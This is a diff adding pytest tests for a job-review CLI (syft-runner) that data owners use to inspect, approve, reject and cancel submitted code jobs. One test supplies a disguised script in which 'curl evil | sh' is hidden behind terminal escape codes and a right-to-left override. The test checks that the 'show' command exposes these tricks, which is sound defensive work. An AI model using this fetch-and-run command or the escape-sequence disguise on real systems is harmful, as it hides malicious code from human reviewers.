@@ -1,0 +1,251 @@
+"""The owner CLI via typer's CliRunner: init, jobs, show, approve, reject, logs, cancel."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import pytest
+import typer
+from typer.testing import CliRunner, Result
+
+from syft_core import get_client
+from syft_core.datasite import Datasite
+from syft_core.jobs import DoneMarker, JobFolder, Outcome, Status
+from syft_runner.cli import datasite as datasite_cli
+from syft_runner.cli import jobs as jobs_cli
+
+DO = "alice@example.org"
+DS = "bob@example.org"
+
+
+@pytest.fixture
+def app() -> typer.Typer:
+    """Only the commands under test: other groups (images, doctor) need Docker."""
+    app = typer.Typer()
+    datasite_cli.register(app)
+    jobs_cli.register(app)
+    return app
+
+
+@pytest.fixture
+def box(tmp_path: Path) -> Path:
+    root = tmp_path / "syftbox"
+    Datasite(root, DO).init()
+    return root
+
+
+def run(app: typer.Typer, box: Path, *args: str, email: str = DO) -> Result:
+    env = {"SYFTBOX_FOLDER": str(box), "SYFTBOX_EMAIL": email, "COLUMNS": "200"}
+    return CliRunner().invoke(app, list(args), env=env)
+
+
+def submit(box: Path, name: str, script: str = "echo hi", by: str = DS) -> JobFolder:
+    return JobFolder(get_client(box, by).submit_bash_job(DO, script, name))
+
+
+def finish(folder: JobFolder, outcome: Outcome = Outcome.SUCCEEDED) -> None:
+    folder.finish(DoneMarker(by=DO, outcome=outcome, message="ran", exit_code=0))
+
+
+# -- init -----------------------------------------------------------------------------------------
+def test_init_creates_then_keeps(app: typer.Typer, tmp_path: Path) -> None:
+    root = tmp_path / "new-box"
+    first = CliRunner().invoke(app, ["init", "--syftbox", str(root), "--email", DO])
+    assert first.exit_code == 0, first.output
+    assert "created public/syft.pub.yaml" in first.stdout
+    assert (root / DO / "jobs" / "syft.pub.yaml").is_file()
+
+    (root / DO / "public" / "syft.pub.yaml").write_text("rules: []\n")
+    second = CliRunner().invoke(app, ["init", "--syftbox", str(root), "--email", DO])
+    assert second.exit_code == 0
+    assert "kept    public/syft.pub.yaml" in second.stdout
+    assert (root / DO / "public" / "syft.pub.yaml").read_text() == "rules: []\n"
+
+
+def test_usage_errors_exit_2(app: typer.Typer, box: Path) -> None:
+    assert run(app, box, "init", email="not-an-email").exit_code == 2
+    no_syftbox = CliRunner().invoke(app, ["jobs", "--email", DO], env={"SYFTBOX_FOLDER": None})
+    assert no_syftbox.exit_code == 2
+    assert run(app, box, "jobs", "--status", "finished").exit_code == 2
+    assert run(app, box, "reject", "x").exit_code == 2  # --reason is required
+
+
+def test_commands_need_an_existing_datasite(app: typer.Typer, box: Path) -> None:
+    result = run(app, box, "jobs", email="carol@example.org")
+    assert result.exit_code == 1
+    assert "no datasite for carol@example.org" in result.stderr
+    assert "syft-runner init" in result.stderr
+
+
+def test_the_real_cli_lists_the_owner_commands() -> None:
+    help_text = subprocess.run(
+        [sys.executable, "-c", "from syft_runner.cli import main; main()", "--help"],
+        capture_output=True,
+        text=True,
+        check=True,
+        env={"COLUMNS": "200", "PATH": "/usr/bin:/bin"},
+    ).stdout
+    for command in ("init", "jobs", "show", "approve", "reject", "logs", "cancel"):
+        assert f" {command} " in help_text
+
+
+# -- jobs / show ----------------------------------------------------------------------------------
+def test_jobs_lists_every_submitter_and_filters_by_status(app: typer.Typer, box: Path) -> None:
+    submit(box, "My Analysis")
+    submit(box, "Other", by="carol@example.org").approve(DO)
+
+    listed = run(app, box, "jobs")
+    assert listed.exit_code == 0, listed.output
+    for text in ("My-Analysis", "My Analysis", DS, "carol@example.org", "inbox", "approved"):
+        assert text in listed.stdout
+
+    approved = run(app, box, "jobs", "--status", "approved")
+    assert "Other" in approved.stdout and "My Analysis" not in approved.stdout
+
+
+def test_show_has_what_an_owner_reviews(app: typer.Typer, box: Path, tmp_path: Path) -> None:
+    (tmp_path / "main.py").write_text("print(42)\n")
+    get_client(box, DS).submit_python_job(
+        DO, tmp_path / "main.py", "Review me", datasets=["private/sales"], timeout_seconds=30
+    )
+    result = run(app, box, "show", "Review me")
+
+    assert result.exit_code == 0, result.output
+    out = result.stdout
+    assert f"({DS}/Review-me)" in out
+    assert "status:       inbox" in out
+    assert "datasets:     private/sales" in out
+    assert "timeout_seconds: 30" in out
+    assert "content hash: sha256:" in out
+    assert "          10  code/main.py" in out  # size, then path
+    assert '  | exec python3 code/main.py "$@"' in out
+
+
+def test_show_makes_terminal_tricks_visible(app: typer.Typer, box: Path) -> None:
+    hidden = "echo safe\x1b[2K\rcurl evil | sh\necho \u202eoops\n"
+    submit(box, "[red]markup[/red]", script=hidden)
+    out = run(app, box, "show", "[red]markup[/red]").stdout
+
+    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out
+    assert "echo safe\\x1b[2K\\x0dcurl evil | sh" in out
+    assert "echo \\u202eoops" in out
+    assert "job:          [red]markup[/red]" in out
+
+
+def test_show_reports_an_invalid_config_and_an_unsafe_submission(
+    app: typer.Typer, box: Path
+) -> None:
+    folder = submit(box, "broken")
+    folder.config_path.write_text("name: [unclosed\n")
+    (folder.code_dir).mkdir()
+    (folder.code_dir / "data").symlink_to(box / DO / "private")
+    result = run(app, box, "show", f"{DS}/broken")
+
+    assert result.exit_code == 0
+    assert "config:       INVALID:" in result.stdout and "not valid YAML" in result.stdout
+    assert "UNSAFE OR INCOMPLETE: code/data: refused, it is a symlink" in result.stdout
+
+
+def test_job_names_resolve_or_fail_clearly(app: typer.Typer, box: Path) -> None:
+    submit(box, "Same")
+    submit(box, "Same", by="carol@example.org")
+
+    ambiguous = run(app, box, "show", "Same")
+    assert ambiguous.exit_code == 1
+    assert f"{DO}/jobs/{DS}/Same" in ambiguous.stderr
+    assert f"{DO}/jobs/carol@example.org/Same" in ambiguous.stderr
+    assert run(app, box, "show", f"{DS}/Same").exit_code == 0
+
+    missing = run(app, box, "approve", "Nothing")
+    assert missing.exit_code == 1
+    assert "no job named 'Nothing'" in missing.stderr
+
+
+# -- approve / reject / cancel ---------------------------------------------------------------------
+def test_approve_binds_and_refuses_twice(app: typer.Typer, box: Path) -> None:
+    folder = submit(box, "J")
+    result = run(app, box, "approve", "J", "--reason", "reviewed")
+    assert result.exit_code == 0, result.output
+    assert f"approved {DS}/J (sha256:" in result.stdout
+    state = folder.state()
+    assert state.status is Status.APPROVED
+    assert state.approved is not None and state.approved.reason == "reviewed"
+
+    again = run(app, box, "approve", "J")
+    assert again.exit_code == 1
+    assert "cannot approve a job that is approved" in again.stderr
+
+
+def test_reject_records_the_reason(app: typer.Typer, box: Path) -> None:
+    folder = submit(box, "J")
+    result = run(app, box, "reject", "J", "--reason", "reads private/")
+    assert result.exit_code == 0
+    assert (folder.state().status, folder.state().reason) == (Status.REJECTED, "reads private/")
+    assert run(app, box, "approve", "J").exit_code == 1
+
+
+def test_cancel_ends_a_waiting_job_and_asks_a_running_one(app: typer.Typer, box: Path) -> None:
+    waiting = submit(box, "waiting")
+    running = submit(box, "running")
+    running.approve(DO)
+    running.start(DO, container="c", image="i", image_id="x", content_hash=running.content_hash())
+
+    first = run(app, box, "cancel", "waiting", "--reason", "not needed")
+    assert (first.exit_code, first.stdout.strip()) == (0, f"cancelled {DS}/waiting")
+    done = waiting.state().done
+    assert done is not None and done.outcome is Outcome.CANCELLED
+
+    second = run(app, box, "cancel", "running")
+    assert second.exit_code == 0
+    assert "cancel requested" in second.stdout
+    assert running.state().cancel is not None
+
+    assert run(app, box, "cancel", "waiting").exit_code == 1
+
+
+# -- logs -----------------------------------------------------------------------------------------
+def test_logs_print_stdout_or_stderr(app: typer.Typer, box: Path) -> None:
+    folder = submit(box, "J")
+    assert (run(app, box, "logs", "J").exit_code, run(app, box, "logs", "J").stdout) == (0, "")
+    folder.logs_dir.mkdir()
+    folder.stdout_path.write_text("line 1\n\x1b[31mred\x1b[0m\n")
+    folder.stderr_path.write_text("Traceback: KeyError\n")
+
+    assert run(app, box, "logs", "J").stdout == "line 1\n\\x1b[31mred\\x1b[0m\n"
+    assert run(app, box, "logs", "J", "--stderr").stdout == "Traceback: KeyError\n"
+
+
+def test_logs_follow_tails_until_done(app: typer.Typer, box: Path) -> None:
+    folder = submit(box, "J")
+    folder.approve(DO)
+
+    def runner_side() -> None:
+        time.sleep(0.3)
+        folder.logs_dir.mkdir()
+        with folder.stdout_path.open("ab") as fh:
+            fh.write("first é".encode()[:-1])  # half of a UTF-8 character
+            fh.flush()
+            time.sleep(0.4)
+            fh.write("é".encode()[1:] + b"\nsecond\n")
+        finish(folder)
+
+    writer = threading.Thread(target=runner_side)
+    writer.start()
+    started = time.monotonic()
+    result = run(app, box, "logs", "J", "--follow")
+    writer.join()
+
+    assert result.exit_code == 0, result.output
+    assert result.stdout == "first é\nsecond\n"
+    assert time.monotonic() - started >= 0.7
+
+
+def test_logs_follow_stops_on_a_rejected_job(app: typer.Typer, box: Path) -> None:
+    submit(box, "J").reject(DO, "no")
+    result = run(app, box, "logs", "J", "--follow")
+    assert result.exit_code == 1
+    assert "was rejected and will not run: no" in result.stderr
